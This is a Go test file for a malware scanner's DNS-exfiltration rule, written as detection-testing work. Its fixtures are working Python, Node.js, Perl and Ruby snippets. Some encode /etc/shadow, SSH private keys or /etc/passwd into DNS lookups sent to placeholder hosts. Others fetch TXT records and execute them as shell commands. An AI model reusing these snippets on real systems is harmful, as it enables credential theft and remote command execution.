package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestDNSExfil: names built from encoded data and looked up one after another carry the data
// out over DNS (STRATA-MW-003, high), in Python, Perl, Ruby and Node.js, through chunks, loop
// variables, f-strings, % formatting and concatenation; programs that resolve a configured
// host, or encode credentials for a header and resolve the server's name, stay silent.
func TestDNSExfil(t *testing.T) {
	for name, tc := range map[string]struct{ path, text string }{
		"py-b32-fstring": {"/opt/.c/q.py", "import base64, socket, time\nD = 'x.example.net'\ndef send(data):\n    enc = base64.b32encode(data.encode()).decode().rstrip('=')\n    parts = [enc[i:i+40] for i in range(0, len(enc), 40)]\n    for n, p in enumerate(parts):\n        socket.gethostbyname(f\"{p}.{n}.{D}\")\n        time.sleep(0.5)\nsend(open('/etc/shadow').read())\n"},
		"py-hex-percent": {"/usr/local/bin/sync.py", "import binascii, socket\ndom = 'c.example.org'\nblob = binascii.hexlify(open('/root/.ssh/id_rsa','rb').read()).decode()\nfor i in range(0, len(blob), 60):\n    label = blob[i:i+60]\n    try:\n        socket.getaddrinfo('%s.%d.%s' % (label, i, dom), 53)\n    except OSError:\n        pass\n"},
		"py-dnspython":   {"/srv/app/beacon.py", "import dns.resolver, base64\nr = dns.resolver.Resolver()\nout = base64.b32encode(b'id=' + open('/etc/hostname','rb').read()).decode().strip('=').lower()\nname = out + '.t.example.com'\nr.resolve(name, 'TXT')\n"},
		"node-hex":       {"/opt/app/lib/x.js", "const dns = require('dns');\nconst fs = require('fs');\nconst hex = Buffer.from(fs.readFileSync('/etc/passwd')).toString('hex');\nfor (let i = 0; i < hex.length; i += 50) {\n  const chunk = hex.slice(i, i + 50);\n  dns.lookup(`${chunk}.${i}.x.example.net`, () => {});\n}\n"},
		"perl-unpack":    {"/usr/local/sbin/q.pl", "use Socket;\nmy $d = 'x.example.net';\nmy $h = unpack('H*', `cat /etc/shadow`);\nforeach my $c ($h =~ /(.{1,50})/g) {\n  gethostbyname(\"$c.$d\");\n}\n"},
		"ruby-b64":       {"/opt/.r/q.rb", "require 'resolv'\nrequire 'base64'\ns = Base64.strict_encode64(File.read('/etc/shadow')).tr('+/=', '-_.')\ns.scan(/.{1,40}/).each_with_index do |c, i|\n  Resolv.getaddress(\"#{c}.#{i}.x.example.net\") rescue nil\nend\n"},
	} {
		fs := scanFile(tc.path, tc.text)
		found := false
		for _, f := range fs {
			if f.Rule == RuleDNSExfil && f.Severity >= audit.High {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: %v", name, fs)
		}
	}
	for name, tc := range map[string]struct{ path, text string }{
		"py-configured": {"/usr/local/bin/check.py", "import socket, base64\nhost = open('/etc/app/host').read().strip()\ntoken = base64.b64encode(b'user:pw').decode()\nprint(socket.gethostbyname(host))\nheaders = {'Authorization': 'Basic ' + token}\n"},
		"node-client":   {"/opt/app/client.js", "const dns = require('dns');\nconst auth = Buffer.from(user + ':' + pass).toString('base64');\ndns.lookup(config.host, (err, addr) => connect(addr, auth));\n"},
	} {
		for _, f := range scanFile(tc.path, tc.text) {
			if f.Rule == RuleDNSExfil {
				t.Errorf("%s: %v", name, f)
			}
		}
	}
}

// TestDNSCommands: what a DNS answer carries (a TXT record) run as a command or code is a
// command channel over DNS: critical, in each language, however the answer is passed along.
// Resolvers that read TXT records to compare, print or configure run nothing they read.
func TestDNSCommands(t *testing.T) {
	found := map[string]struct{ path, text string }{
		"py-resolve-b64":  {"/usr/lib/dnsutils/c.py", "import dns.resolver, base64, os, time\nwhile True:\n    ans = dns.resolver.resolve('q.t.example.net', 'TXT')\n    cmd = base64.b64decode(ans[0].to_text().strip('\"'))\n    os.system(cmd.decode())\n    time.sleep(30)\n"},
		"py-query-chunks": {"/opt/.d/d.py", "import dns.resolver, subprocess\nr = dns.resolver.Resolver()\ndef fetch(n):\n    return r.query('%d.c.example.org' % n, 'TXT')[0].to_text()\nbuf = ''\nfor i in range(3):\n    a = r.query('%d.c.example.org' % i, 'TXT')\n    buf += a[0].to_text()\nout = subprocess.check_output(buf, shell=True)\n"},
		"node-resolveTxt": {"/srv/app/lib/sync.js", "const dns = require('dns');\nconst { exec } = require('child_process');\ndns.resolveTxt('cmd.example.net', (err, records) => {\n  if (err) return;\n  exec(records.flat().join(''), () => {});\n});\n"},
		"ruby-resolv":     {"/opt/r/r.rb", "require 'resolv'\nres = Resolv::DNS.new\nrecs = res.getresources('c.example.com', Resolv::DNS::Resource::IN::TXT)\ncmd = recs.map { |r| r.strings.join }.join\nsystem(cmd)\n"},
		"perl-net-dns":    {"/usr/local/sbin/d.pl", "use Net::DNS;\nmy $r = Net::DNS::Resolver->new;\nmy $q = $r->query('c.example.org', 'TXT');\nmy $c = join('', ($q->answer)[0]->txtdata);\nsystem($c);\n"},
	}
	for name, tc := range found {
		fs := scanFile(tc.path, tc.text)
		ok := false
		for _, f := range fs {
			if f.Rule == RuleDNSExfil && f.Severity == audit.Critical {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: no critical %s\n%s", name, RuleDNSExfil, dump(fs))
		}
	}
	clean := map[string]struct{ path, text string }{
		"acme-check":  {"/usr/local/bin/acme-wait.py", "import dns.resolver, subprocess, time\ntoken = open('/run/acme/token').read().strip()\nwhile True:\n    vals = [r.to_text().strip('\"') for r in dns.resolver.resolve('_acme-challenge.example.com', 'TXT')]\n    if token in vals:\n        break\n    time.sleep(10)\nsubprocess.run(['certbot', 'renew'])\n"},
		"spf-printer": {"/usr/local/bin/spf.js", "const dns = require('dns');\nconst { execSync } = require('child_process');\ndns.resolveTxt(process.argv[2], (err, recs) => {\n  console.log(recs.filter(r => r.join('').startsWith('v=spf1')));\n});\nexecSync('logger spf checked');\n"},
	}
	for name, tc := range clean {
		for _, f := range scanFile(tc.path, tc.text) {
			if f.Rule == RuleDNSExfil {
				t.Errorf("%s: %s %s", name, f.Rule, f.Title)
			}
		}
	}
}
